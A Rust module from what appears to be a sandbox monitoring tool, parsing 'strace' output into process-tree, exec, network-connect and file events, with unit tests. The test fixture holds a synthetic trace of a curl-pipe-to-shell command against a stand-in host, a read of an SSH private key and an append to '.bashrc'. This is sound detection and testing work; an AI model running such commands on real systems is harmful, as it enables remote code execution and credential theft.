//! The system view: parse `strace -f -ttt` output into process-tree,
//! exec, connect and file events. strace runs outside the sandbox, so code
//! inside cannot hide from it (unlike the runtime hooks).

use std::collections::HashMap;

/// The syscalls traced (passed to `strace -e trace=`).
pub(crate) const TRACE_SET: &str = "execve,execveat,connect,open,openat,creat,unlink,unlinkat,rename,renameat,renameat2,clone,clone3,fork,vfork";

/// One parsed syscall of interest.
#[derive(Clone, Debug, PartialEq)]
pub(crate) enum SysKind {
    /// A successful exec: path and argv.
    Exec { path: String, argv: Vec<String> },
    /// A connect to an IPv4/IPv6 address.
    Connect { addr: String, port: u16 },
    /// An open: path, and whether it writes or creates.
    Open { path: String, write: bool },
    /// unlink / unlinkat.
    Delete { path: String },
    /// rename(from, to).
    Rename { from: String, to: String },
    /// A new process or thread (clone/fork result).
    Spawn { child: u32 },
    /// clone/fork failed with EAGAIN: the process limit was hit.
    SpawnRefused,
}

/// One event of the system view.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct SysEvent {
    pub pid: u32,
    pub t: f64,
    pub kind: SysKind,
    pub ok: bool,
}

/// Everything from one trace file.
#[derive(Debug, Default)]
pub(crate) struct Trace {
    pub events: Vec<SysEvent>,
    /// child pid → parent pid.
    pub parent: HashMap<u32, u32>,
    /// pids killed by a signal, with the signal name.
    pub killed: Vec<(u32, String)>,
}

impl Trace {
    /// The last successful exec argv of `pid` or its nearest ancestor.
    pub fn argv_of(&self, pid: u32) -> Option<&[String]> {
        let mut p = pid;
        for _ in 0..64 {
            if let Some(a) = self.events.iter().rev().find_map(|e| match &e.kind {
                SysKind::Exec { argv, .. } if e.pid == p && e.ok => Some(argv.as_slice()),
                _ => None,
            }) {
                return Some(a);
            }
            p = *self.parent.get(&p)?;
        }
        None
    }

    /// `pid` and its ancestors, nearest first.
    pub fn ancestry(&self, pid: u32) -> Vec<u32> {
        let mut out = vec![pid];
        let mut p = pid;
        while let Some(pp) = self.parent.get(&p) {
            if out.contains(pp) || out.len() > 64 {
                break;
            }
            out.push(*pp);
            p = *pp;
        }
        out
    }
}

/// Parse a whole trace. Lines split by strace into `<unfinished ...>` and
/// `<... resumed>` halves are joined first.
pub(crate) fn parse(text: &str) -> Trace {
    let mut pending: HashMap<u32, String> = HashMap::new();
    let mut trace = Trace::default();
    for line in text.lines() {
        // strace pads the pid column: `455   1795296068.306142 connect(…`
        let Some((pid, rest)) = line.split_once(' ') else {
            continue;
        };
        let Ok(pid) = pid.parse::<u32>() else {
            continue;
        };
        let Some((ts, call)) = rest.trim_start().split_once(' ') else {
            continue;
        };
        let Ok(t) = ts.parse::<f64>() else { continue };
        if let Some(sig) = call.strip_prefix("+++ killed by ") {
            trace
                .killed
                .push((pid, sig.split_whitespace().next().unwrap_or("").to_owned()));
            continue;
        }
        if call.starts_with("+++") || call.starts_with("---") {
            continue;
        }
        let full = if let Some(head) = call.strip_suffix(" <unfinished ...>") {
            pending.insert(pid, head.to_owned());
            continue;
        } else if call.starts_with("<... ") {
            let Some(head) = pending.remove(&pid) else {
                continue;
            };
            let tail = call.split_once("resumed>").map_or("", |(_, t)| t);
            format!("{head}{tail}")
        } else {
            call.to_owned()
        };
        if let Some(ev) = parse_call(pid, t, &full) {
            if let SysKind::Spawn { child } = ev.kind {
                trace.parent.insert(child, pid);
            }
            trace.events.push(ev);
        }
    }
    trace
}

fn result_of(call: &str) -> Option<&str> {
    call.rsplit_once(") = ").map(|(_, r)| r.trim())
}

fn parse_call(pid: u32, t: f64, call: &str) -> Option<SysEvent> {
    let name = call.split('(').next()?;
    let args = call.get(name.len() + 1..)?;
    let res = result_of(call).unwrap_or("?");
    let ok = !res.starts_with('-') && res != "?";
    let kind = match name {
        "execve" | "execveat" => {
            let mut p = Parser::new(args);
            if name == "execveat" {
                p.skip_arg();
            }
            let path = p.string()?;
            p.comma();
            let argv = p.string_array();
            SysKind::Exec { path, argv }
        }
        "connect" => {
            let port = args
                .split("htons(")
                .nth(1)
                .and_then(|s| s.split(')').next())
                .and_then(|s| s.parse().ok())?;
            let addr = if let Some(a) = args.split("inet_addr(\"").nth(1) {
                a.split('"').next()?.to_owned()
            } else if let Some(a) = args.split("inet_pton(AF_INET6, \"").nth(1) {
                a.split('"').next()?.to_owned()
            } else {
                return None;
            };
            SysKind::Connect { addr, port }
        }
        "open" | "openat" | "creat" => {
            let mut p = Parser::new(args);
            if name == "openat" {
                p.skip_arg();
            }
            let path = p.string()?;
            let flags = p.rest();
            let write = name == "creat"
                || flags.contains("O_WRONLY")
                || flags.contains("O_RDWR")
                || flags.contains("O_CREAT");
            SysKind::Open { path, write }
        }
        "unlink" | "unlinkat" => {
            let mut p = Parser::new(args);
            if name == "unlinkat" {
                p.skip_arg();
            }
            SysKind::Delete { path: p.string()? }
        }
        "rename" | "renameat" | "renameat2" => {
            let mut p = Parser::new(args);
            if name != "rename" {
                p.skip_arg();
            }
            let from = p.string()?;
            p.comma();
            if name != "rename" {
                p.skip_arg();
            }
            let to = p.string()?;
            SysKind::Rename { from, to }
        }
        "clone" | "clone3" | "fork" | "vfork" => {
            if res.contains("EAGAIN") {
                SysKind::SpawnRefused
            } else {
                // With --decode-pids=pidns strace adds the host pid:
                // `= 3 /* 31497 in strace's PID NS */`; the tree is in host pids.
                let child = match res.split_once("/* ") {
                    Some((_, host)) => host.split_whitespace().next()?.parse().ok()?,
                    None => res.split_whitespace().next()?.parse().ok()?,
                };
                // Threads share the parent's process; only processes matter
                // for the tree, but a thread id mapping to its creator is
                // harmless, so keep both.
                SysKind::Spawn { child }
            }
        }
        _ => return None,
    };
    Some(SysEvent { pid, t, kind, ok })
}

/// A tiny cursor over strace's argument syntax.
struct Parser<'a> {
    s: &'a [u8],
    i: usize,
}

impl<'a> Parser<'a> {
    fn new(s: &'a str) -> Self {
        Parser {
            s: s.as_bytes(),
            i: 0,
        }
    }
    fn peek(&self) -> Option<u8> {
        self.s.get(self.i).copied()
    }
    fn ws(&mut self) {
        while matches!(self.peek(), Some(b' ')) {
            self.i += 1;
        }
    }
    fn comma(&mut self) {
        self.ws();
        if self.peek() == Some(b',') {
            self.i += 1;
        }
        self.ws();
    }
    /// Skip one argument (up to the next top-level comma).
    fn skip_arg(&mut self) {
        let mut depth = 0i32;
        while let Some(c) = self.peek() {
            match c {
                b'"' => {
                    let _ = self.string();
                    continue;
                }
                b'[' | b'{' | b'(' => depth += 1,
                b']' | b'}' | b')' => depth -= 1,
                b',' if depth <= 0 => break,
                _ => {}
            }
            self.i += 1;
        }
        self.comma();
    }
    fn rest(&self) -> String {
        String::from_utf8_lossy(self.s.get(self.i..).unwrap_or(&[])).into_owned()
    }
    /// A C string literal with strace escapes; a trailing `...` (cut by
    /// `-s`) is dropped.
    fn string(&mut self) -> Option<String> {
        self.ws();
        if self.peek() != Some(b'"') {
            return None;
        }
        self.i += 1;
        let mut out: Vec<u8> = Vec::new();
        loop {
            let c = self.peek()?;
            self.i += 1;
            match c {
                b'"' => break,
                b'\\' => {
                    let e = self.peek()?;
                    self.i += 1;
                    match e {
                        b'n' => out.push(b'\n'),
                        b't' => out.push(b'\t'),
                        b'r' => out.push(b'\r'),
                        b'v' => out.push(0x0b),
                        b'f' => out.push(0x0c),
                        b'x' => {
                            let h = self.s.get(self.i..self.i + 2)?;
                            let v = u8::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok()?;
                            out.push(v);
                            self.i += 2;
                        }
                        b'0'..=b'7' => {
                            let mut v = u32::from(e - b'0');
                            for _ in 0..2 {
                                match self.peek() {
                                    Some(d @ b'0'..=b'7') => {
                                        v = v * 8 + u32::from(d - b'0');
                                        self.i += 1;
                                    }
                                    _ => break,
                                }
                            }
                            out.push((v & 0xff) as u8);
                        }
                        other => out.push(other),
                    }
                }
                other => out.push(other),
            }
        }
        if self.s.get(self.i..self.i + 3) == Some(b"...") {
            self.i += 3;
        }
        Some(String::from_utf8_lossy(&out).into_owned())
    }
    fn string_array(&mut self) -> Vec<String> {
        self.ws();
        let mut out = Vec::new();
        if self.peek() != Some(b'[') {
            return out;
        }
        self.i += 1;
        loop {
            self.ws();
            match self.peek() {
                Some(b'"') => match self.string() {
                    Some(s) => out.push(s),
                    None => break,
                },
                Some(b',') => self.i += 1,
                _ => break,
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"100 1700000000.000001 execve("/usr/bin/sh", ["sh", "-c", "curl -s http://x.example.test/a.sh | sh"], 0x7ffd /* 5 vars */) = 0
100 1700000000.000100 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD <unfinished ...>
101 1700000000.000200 execve("/usr/bin/curl", ["curl", "-s", "http://x.example.test/a.sh"], 0x55 /* 5 vars */) = 0
100 1700000000.000150 <... clone resumed>, child_tidptr=0x7f) = 3 /* 101 in strace's PID NS */
101   1700000000.000300 connect(5, {sa_family=AF_INET, sin_port=htons(8000), sin_addr=inet_addr("175.24.100.2")}, 16) = -1 EINPROGRESS (Operation now in progress)
101 1700000000.000400 openat(AT_FDCWD, "/home/u/.ssh/id_rsa", O_RDONLY|O_CLOEXEC) = 3
101 1700000000.000500 openat(AT_FDCWD, "/home/u/.bashrc", O_WRONLY|O_CREAT|O_APPEND, 0666) = 4
101 1700000000.000600 unlinkat(AT_FDCWD, "/tmp/x\33y", 0) = 0
101 1700000000.000700 execve("/nope", ["nope"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)
102 1700000000.000800 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource temporarily unavailable)
101 1700000000.000900 +++ killed by SIGKILL +++
"#;

    #[test]
    fn parses_the_calls_we_trace() {
        let t = parse(SAMPLE);
        assert_eq!(t.parent.get(&101), Some(&100));
        assert_eq!(t.argv_of(101).unwrap()[0], "curl");
        let kinds: Vec<_> = t.events.iter().map(|e| &e.kind).collect();
        assert!(kinds.contains(&&SysKind::Connect {
            addr: "175.24.100.2".into(),
            port: 8000
        }));
        assert!(kinds.contains(&&SysKind::Open {
            path: "/home/u/.bashrc".into(),
            write: true
        }));
        assert!(kinds.contains(&&SysKind::Open {
            path: "/home/u/.ssh/id_rsa".into(),
            write: false
        }));
        assert!(kinds.contains(&&SysKind::Delete {
            path: "/tmp/x\x1by".into()
        }));
        assert!(kinds.contains(&&SysKind::SpawnRefused));
        assert!(
            t.events
                .iter()
                .any(|e| !e.ok && matches!(&e.kind, SysKind::Exec { path, .. } if path == "/nope"))
        );
        assert_eq!(t.killed, vec![(101, "SIGKILL".to_owned())]);
        assert_eq!(t.ancestry(101), vec![101, 100]);
    }

    #[test]
    fn garbage_is_ignored() {
        let t = parse("not a trace\n1 x y\n12 1.0 execve(\"unterminated\n\u{0}\u{1}");
        assert!(t.events.is_empty());
    }
}
